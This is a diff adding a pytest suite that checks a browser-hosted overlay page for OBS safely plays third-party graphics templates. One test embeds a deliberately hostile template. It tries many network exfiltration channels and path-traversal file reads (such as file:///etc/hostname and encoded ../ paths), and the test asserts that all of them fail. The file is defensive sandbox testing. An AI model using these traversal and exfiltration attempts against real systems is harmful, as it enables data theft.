@@ -1,0 +1,279 @@
+"""Templates of others in a browser, on the host page that OBS shows: they play and do no harm."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from overlays import brought
+from overlays.brought import Brought
+from studio.health import policy
+from studio.stage.layers import Page
+from studio.stage.port import VideoProfile
+from studio.stage.web.hosted import Answer, Hosted
+from studio.stage.web.server import PageServer
+from tests.helpers import strangers
+from tests.helpers.gui import gui
+from tests.helpers.strangers import WORDS, page_of
+from tests.helpers.tabs import Browser, Tab, browsing
+
+SMALL = VideoProfile(320, 180, 20)
+NOTHING, GREEN = "#00000000", "#ff00ff00"
+PATIENCE = 20.0
+CORNER = 315, 175
+"""Where no frame reaches that a template makes."""
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    gui()
+    with browsing(tmp_path_factory.mktemp("profile")) as opened:
+        yield opened
+
+
+@pytest.fixture(autouse=True)
+def _patience(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A busy computer's browser takes its time; what never comes is waited for in its own test."""
+    for name in ("PAGE_LOAD_SECONDS", "PAGE_PLAY_SECONDS", "PAGE_STOP_SECONDS"):
+        monkeypatch.setattr(policy, name, PATIENCE)
+
+
+@pytest.fixture
+def server() -> Iterator[PageServer]:
+    made = PageServer()
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def show(browser: Browser, server: PageServer) -> Callable[[Page], tuple[Hosted, Tab]]:
+    def shown(page: Page) -> tuple[Hosted, Tab]:
+        hosted = server.host(page, SMALL)
+        return hosted, browser.open(hosted.url)
+
+    return shown
+
+
+def bring(path: Path, tmp_path: Path) -> Brought:
+    return brought.bring_in(path, tmp_path / "data")
+
+
+def answer(hosted: Hosted, number: int) -> Answer:
+    told = hosted.answer(number, PATIENCE)
+    assert told is not None
+    return told
+
+
+def went(hosted: Hosted, number: int) -> bool:
+    return answer(hosted, number).went
+
+
+@pytest.mark.parametrize("kind", ["ograf", "spx"])
+def test_a_stranger_s_template_plays_what_was_typed_is_told_anew_and_leaves(
+    kind: str, tmp_path: Path, show: Callable[[Page], tuple[Hosted, Tab]]
+) -> None:
+    template = bring(getattr(strangers, kind)(tmp_path / "stick"), tmp_path)
+    keys = ("words", "tint", "wide") if kind == "ograf" else ("f0", "f1", "f2")
+
+    def saying(*typed: object) -> Page:
+        more = {} if kind == "ograf" else {"f3": True}
+        return page_of(template, **dict(zip(keys, typed, strict=True)), **more)
+
+    first = saying(WORDS, "#3366cc", 100.0)
+    hosted, tab = show(first)
+    assert went(hosted, 1)
+    assert tab.colour(20, 20) == tab.colour(20, 80) == NOTHING
+    assert went(hosted, hosted.order(first, play=True))
+    tab.comes_to(90, 20, "#ff3366cc")
+    assert (tab.colour(110, 20), tab.colour(20, 80)) == (NOTHING, GREEN)
+    second = saying("别的", "#aa5500", 200.0)
+    assert went(hosted, hosted.order(second, play=True))
+    tab.comes_to(190, 20, "#ffaa5500")
+    assert tab.colour(20, 80) == "#ffff00ff"
+    tab.go(hosted.url)  # as a restarted OBS does: what is wanted comes back by itself
+    tab.comes_to(190, 20, "#ffaa5500")
+    assert went(hosted, hosted.order(second, play=False))
+    tab.comes_to(20, 20, NOTHING)
+
+
+def test_an_update_that_fails_is_told(
+    tmp_path: Path, show: Callable[[Page], tuple[Hosted, Tab]]
+) -> None:
+    template = bring(strangers.ograf(tmp_path / "stick"), tmp_path)
+    page = page_of(template, tint="#3366cc", wide=10.0)
+    hosted, _ = show(page)
+    assert went(hosted, hosted.order(page, play=True))
+    told = answer(hosted, hosted.order(page_of(template, tint="#ff0000"), play=True))
+    assert (told.went, told.words) == (False, "not this one")
+
+
+def test_a_chosen_picture_is_seen(
+    tmp_path: Path, show: Callable[[Page], tuple[Hosted, Tab]]
+) -> None:
+    """Copied to the template, and found from anywhere in its folder."""
+    graphic = """export default class extends HTMLElement {
+      async load({ data }) { this.data = data; }
+      async playAction() {
+        const picture = Object.assign(new Image(), { src: this.data.logo });
+        picture.style.cssText = "position:absolute;left:0;top:0;width:320px;height:180px";
+        this.append(picture);
+      } }"""
+    drawn = tmp_path / "标 志.svg"
+    square = '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">{}</svg>'
+    drawn.write_text(square.format('<rect width="8" height="8" fill="#0a141e"/>'), "utf-8")
+    template = bring(strangers.ograf(tmp_path / "stick", graphic=graphic), tmp_path)
+    page = page_of(template, **brought.with_pictures(template, {"logo": str(drawn)}))
+    drawn.unlink()
+    hosted, tab = show(page)
+    assert went(hosted, hosted.order(page, play=True))
+    tab.comes_to(160, 90, "#ff0a141e")
+
+
+class Net:
+    """Whoever is asked for something from elsewhere: remembers what was said.
+
+    A browser may open a line before it looks whether it may use it: nothing is said on it then.
+    """
+
+    def __init__(self) -> None:
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.said: list[bytes] = []
+        self._thread = threading.Thread(target=self._listen)
+        self._thread.start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                line, _ = self.listener.accept()
+            except OSError:
+                return
+            with line, contextlib.suppress(TimeoutError):
+                line.settimeout(0.5)
+                self.said.append(line.recv(200))
+
+    def close(self) -> None:
+        """Idempotent; what was said on a line that is open is heard first."""
+        with contextlib.suppress(OSError):
+            self.listener.shutdown(socket.SHUT_RDWR)
+        self._thread.join(5)
+        self.listener.close()
+
+
+@pytest.fixture
+def net() -> Iterator[Net]:
+    made = Net()
+    with contextlib.closing(made):
+        yield made
+
+
+TRIES = """
+const out = "http://127.0.0.1:%(tcp)d/";
+const tries = [
+  () => fetch(out), () => fetch(out, { mode: "no-cors" }), () => import(out),
+  () => navigator.sendBeacon(out, "x"), () => new WebSocket(out.replace("http", "ws")),
+  () => new EventSource(out), () => { new Image().src = out; },
+  () => { const x = new XMLHttpRequest(); x.open("GET", out); x.send(); },
+  () => { top.location.href = out; }, () => open(out),
+  () => { const f = document.createElement("iframe"); f.src = out; document.body.append(f); },
+  () => { const f = document.createElement("iframe");
+    f.srcdoc = `<script>fetch("${out}")<\\/script>`; document.body.append(f); },
+  () => { const f = document.createElement("form"); f.action = out; document.body.append(f);
+    f.submit(); },
+  () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = out;
+    document.head.append(l); },
+  () => new Worker(URL.createObjectURL(new Blob([`fetch("${out}")`]))),
+  () => navigator.serviceWorker.register("shown.mjs"),
+  () => parent.document.body.append("x"), () => { parent.frames[0].close(); },
+  () => parent.postMessage("here", "*"), () => new RTCPeerConnection({}),
+];
+const files = [
+  "file:///etc/hostname", "../../../../etc/hostname", "..%%2f..%%2fband.ograf.json",
+  "/%%2e%%2e/host.mjs", "../told", "../orders?after=0", "../../secret.json", "../link.json",
+];
+async function hostile() {
+  const read = await Promise.all(files.map((name) =>
+    fetch(new URL(name, import.meta.url)).then((got) => got.ok, () => false)));
+  for (const attempt of tries) {
+    try { Promise.resolve(attempt()).catch(() => {}); } catch {}
+  }
+  await later(300);
+  return read.filter(Boolean).length + Number("RTCPeerConnection" in window);
+}
+const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+"""
+
+
+def test_a_template_that_means_no_good_reaches_neither_network_nor_files(
+    tmp_path: Path, net: Net, show: Callable[[Page], tuple[Hosted, Tab]]
+) -> None:
+    """It shows how many files it could read that are not its own: a green picture for none."""
+    tries = TRIES % {"tcp": net.listener.getsockname()[1]}
+    graphic = f"""{tries}
+    export default class extends HTMLElement {{
+      async load() {{}}
+      async playAction() {{
+        this.style.background = (await hostile()) === 0 ? "#00ff00" : "#ff0000";
+      }}
+      updateAction() {{ location.href = out; }} }}"""
+    template = bring(strangers.ograf(tmp_path / "stick", graphic=graphic), tmp_path)
+    (tmp_path / "data" / "secret.json").write_text("{}", "utf-8")
+    (template.path.parent / "link.json").symlink_to(tmp_path / "data" / "secret.json")
+    page = page_of(template)
+    hosted, tab = show(page)
+    assert went(hosted, hosted.order(page, play=True))
+    tab.comes_to(*CORNER, GREEN)
+    hosted.order(page_of(template, wide=1.0), play=True)  # now it leaves for elsewhere
+    tab.comes_to(*CORNER, NOTHING)
+    assert not went(hosted, hosted.order(page, play=False)), "and its host page knows"
+    net.close()
+    assert [each for each in net.said if each] == []
+
+
+@pytest.mark.parametrize(
+    "graphic",
+    [
+        "throw new Error('at once');",
+        "export default class extends HTMLElement { async load() { return {statusCode: 500}; } }",
+        "export default class extends HTMLElement { load() { for (;;) {} } }",
+    ],
+)
+def test_one_that_does_not_load_is_told_and_shows_nothing(
+    graphic: str,
+    tmp_path: Path,
+    show: Callable[[Page], tuple[Hosted, Tab]],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(policy, "PAGE_LOAD_SECONDS", 1.0)
+    template = bring(strangers.ograf(tmp_path / "stick", graphic=graphic), tmp_path)
+    hosted, tab = show(page_of(template, tint="#123456"))
+    assert not went(hosted, 1)
+    assert tab.colour(160, 90) == NOTHING
+
+
+NEVER = """export default class extends HTMLElement {
+  async load() {}
+  playAction() { this.style.background = "#00ff00"; return new Promise(() => {}); }
+  updateAction() { return new Promise(() => {}); }
+  stopAction() { return new Promise(() => {}); } }"""
+
+
+def test_one_that_never_ends_plays_and_is_gone_when_it_should_be(
+    tmp_path: Path,
+    show: Callable[[Page], tuple[Hosted, Tab]],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    for name in ("PAGE_PLAY_SECONDS", "PAGE_STOP_SECONDS"):
+        monkeypatch.setattr(policy, name, 0.2)
+    template = bring(strangers.ograf(tmp_path / "stick", graphic=NEVER), tmp_path)
+    page = page_of(template, wide=1.0)
+    hosted, tab = show(page)
+    assert went(hosted, hosted.order(page, play=True))
+    tab.comes_to(160, 90, GREEN)
+    assert went(hosted, hosted.order(page_of(template, wide=2.0), play=True))
+    answer(hosted, hosted.order(page, play=False))
+    assert tab.colour(160, 90) == NOTHING
